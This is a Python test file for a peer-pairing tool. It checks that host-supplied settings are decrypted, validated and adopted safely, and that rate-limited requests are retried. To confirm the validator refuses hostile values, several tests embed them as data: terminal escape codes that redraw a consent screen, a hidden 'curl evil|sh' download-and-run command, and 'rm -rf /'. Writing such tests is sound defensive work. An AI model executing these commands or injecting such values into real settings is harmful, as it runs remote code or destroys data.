"""The joiner's side of issue 16's review: the host's settings are opened, checked and
adopted as the operator saw them; a 429 from the host is waited out."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from baton.core.errors import PairingError, RateLimited
from baton.pairing import joiner
from baton.stores.config_file import read_config, write_config
from baton.stores.home import HomePaths
from baton.stores.pending_join import adopt_mesh_settings
from baton.wire.pake import JoinerPake, Side, b64e, host_pake

CODE = "maple-otter-4821"


def sealed(settings: dict[str, Any]) -> tuple[Any, str]:
    """The joiner's keys and the host's settings sealed to it, as in a real start."""
    joiner = JoinerPake(CODE)
    host_message, host_keys = host_pake(CODE, joiner.message)
    keys = joiner.finish(host_message)
    body = json.dumps({"settings": settings}, ensure_ascii=False).encode()
    return keys, b64e(host_keys.seal(body, Side.JOINER))


@pytest.mark.parametrize(
    "value",
    [
        "telegram:https://evil.example/\x1b[2K\x1b[Gtelegram",  # redraws the line
        "cmd:sh -c 'curl evil|sh' #\r  agent  cmd:/usr/local/bin/helpdesk",
        "echo\x00",
    ],
)
def test_a_setting_that_could_redraw_the_consent_screen_is_refused(value: str) -> None:
    knob = "channel" if value.startswith("telegram") else "agent"
    keys, box = sealed({knob: value})
    with pytest.raises(PairingError, match="printable"):
        joiner._open_settings(keys, box)


def test_unknown_knobs_and_bad_values_are_refused_and_good_ones_pass() -> None:
    keys, box = sealed({"lease_store": "git+file:///srv/mesh.git", "agent_sandbox": "bwrap"})
    assert joiner._open_settings(keys, box)["agent_sandbox"] == "bwrap"
    for bad in ({"fault_file": "/x"}, {"agent": "rm -rf /"}, {"agent_sandbox": "docker"}):
        keys, box = sealed(bad)
        with pytest.raises(PairingError):
            joiner._open_settings(keys, box)


def test_a_host_without_a_sandbox_never_takes_the_joiners_away(tmp_path: Path) -> None:
    paths = HomePaths(tmp_path)
    paths.config.parent.mkdir(parents=True, exist_ok=True)
    write_config(paths.config, {"agent_sandbox": "bwrap"})
    adopt_mesh_settings(paths, {"agent": "echo", "agent_sandbox": "none"})
    assert read_config(paths.config) == {"agent_sandbox": "bwrap", "agent": "echo"}
    write_config(paths.config, {})
    adopt_mesh_settings(paths, {"agent_sandbox": "bwrap"})
    assert read_config(paths.config) == {"agent_sandbox": "bwrap"}


def test_a_429_from_the_host_is_waited_out_then_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []

    def limited_twice(url: str, *args: Any, **kw: Any) -> Any:
        calls.append(url)
        if len(calls) <= 2:
            raise RateLimited("too many pairing requests; wait and retry")
        return {"v": joiner.VERSION, "ok": True}

    monkeypatch.setattr(joiner, "http_json", limited_twice)
    assert joiner._post("http://h/api/pair/start", 1.0, {})["ok"] is True
    assert len(calls) == 3
    monkeypatch.setattr(joiner, "RATE_LIMIT_PATIENCE_S", 0.1)
    calls.clear()
    with pytest.raises(RateLimited):
        joiner._post("http://h/api/pair/start", 1.0, {})
